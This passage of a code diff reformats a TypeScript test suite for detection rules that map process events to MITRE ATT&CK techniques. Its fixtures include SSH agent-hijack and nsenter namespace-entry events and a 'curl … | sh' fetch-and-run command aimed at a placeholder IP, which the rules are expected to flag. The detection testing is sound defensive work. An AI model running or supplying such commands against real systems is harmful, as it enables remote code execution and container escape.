@@ -5,7 +5,12 @@ import { techniquesOfRules } from '../../../lib/attack/index.js';
 import { checkConfig, compile, loadConfig, type RuleEvent } from '../../../lib/config/index.js';
 
 const dir = new URL('../../../examples/rules/', import.meta.url);
-const event = (type: string, data: object, process: object = {}): RuleEvent => ({ type, data: { ...data }, process, extra: {} });
+const event = (type: string, data: object, process: object = {}): RuleEvent => ({
+  type,
+  data: { ...data },
+  process,
+  extra: {},
+});
 const exec = (Image: string, CommandLine: string, process: object = {}, more: object = {}): RuleEvent =>
   event(
     'ProcessCreate',
@@ -53,7 +58,10 @@ const scenarios: Record<string, { fires: [string, RuleEvent][]; quiet: RuleEvent
     fires: [
       ['T1021.004', exec('/usr/bin/ssh', 'ssh db1', by('/usr/sbin/sshd'))],
       ['T1021.004', exec('/usr/bin/scp', 'scp x db1:', by('/usr/lib/openssh/sshd-session'))],
-      ['T1563.001', exec('/usr/bin/ssh', 'ssh db1', { env: { SSH_AUTH_SOCK: '/tmp/ssh-x/agent.1' } }, { User: 'root' })],
+      [
+        'T1563.001',
+        exec('/usr/bin/ssh', 'ssh db1', { env: { SSH_AUTH_SOCK: '/tmp/ssh-x/agent.1' } }, { User: 'root' }),
+      ],
     ],
     quiet: [
       exec('/usr/bin/ssh', 'ssh db1', by('/usr/bin/gnome-terminal')),
@@ -134,25 +142,40 @@ describe.each(Object.entries(scenarios))('%s', (name, { fires, quiet }) => {
   it('is clean', () => {
     const later = laterEvents[name];
     const found = checkConfig(readFileSync(path)).map((d) => `${d.code}: ${d.message}`);
-    expect(found).toEqual(later ? [`not-produced: this version does not produce ${later}; its rules have no effect`] : []);
+    expect(found).toEqual(
+      later ? [`not-produced: this version does not produce ${later}; its rules have no effect`] : [],
+    );
     if (later) expect(readFileSync(path, 'utf8')).toContain(`# This version does not produce ${later}:`);
   });
 
   it.each(fires)('fires with %s', (id, e) => {
     const { verdict, rules: names, ruleName } = rules.evaluate(e);
-    expect([verdict, techniquesOfRules([ruleName])[0]?.id, techniquesOfRules(names).some((t) => t.id === id)]).toEqual(['log', id, true]);
+    expect([verdict, techniquesOfRules([ruleName])[0]?.id, techniquesOfRules(names).some((t) => t.id === id)]).toEqual([
+      'log',
+      id,
+      true,
+    ]);
   });
 
-  it.each(quiet)('does not fire for a near miss: %j', (e) => expect(rules.evaluate(e)).toMatchObject({ verdict: 'drop', rules: [] }));
+  it.each(quiet)('does not fire for a near miss: %j', (e) =>
+    expect(rules.evaluate(e)).toMatchObject({ verdict: 'drop', rules: [] }),
+  );
 });
 
 it('the starter configuration is clean and quiet on an ordinary day', () => {
   expect(checkConfig(readFileSync(new URL('../../../lib/config/starter.yml', import.meta.url)))).toEqual([]);
   const rules = compile(loadConfig('starter'));
-  const data = JSON.parse(readFileSync(new URL('../../bench/exec-events.json', import.meta.url), 'utf8')) as Record<string, string>[];
-  const logged = rules.evaluateAll(data.map((d) => ({ type: 'ProcessCreate', data: d }))).filter((v) => v.verdict === 'log');
+  const data = JSON.parse(readFileSync(new URL('../../bench/exec-events.json', import.meta.url), 'utf8')) as Record<
+    string,
+    string
+  >[];
+  const logged = rules
+    .evaluateAll(data.map((d) => ({ type: 'ProcessCreate', data: d })))
+    .filter((v) => v.verdict === 'log');
   expect(logged).toEqual([]);
-  expect(rules.evaluate(exec('/usr/bin/bash', 'bash -c curl http://198.51.100.7/x | sh'))).toMatchObject({ verdict: 'log' });
+  expect(rules.evaluate(exec('/usr/bin/bash', 'bash -c curl http://198.51.100.7/x | sh'))).toMatchObject({
+    verdict: 'log',
+  });
   const nsenter = (path: string): RuleEvent => exec('/usr/bin/nsenter', 'nsenter -t 1 -m', { cgroup: { path } });
   const hex = 'c0ffee'.repeat(10);
   for (const path of [
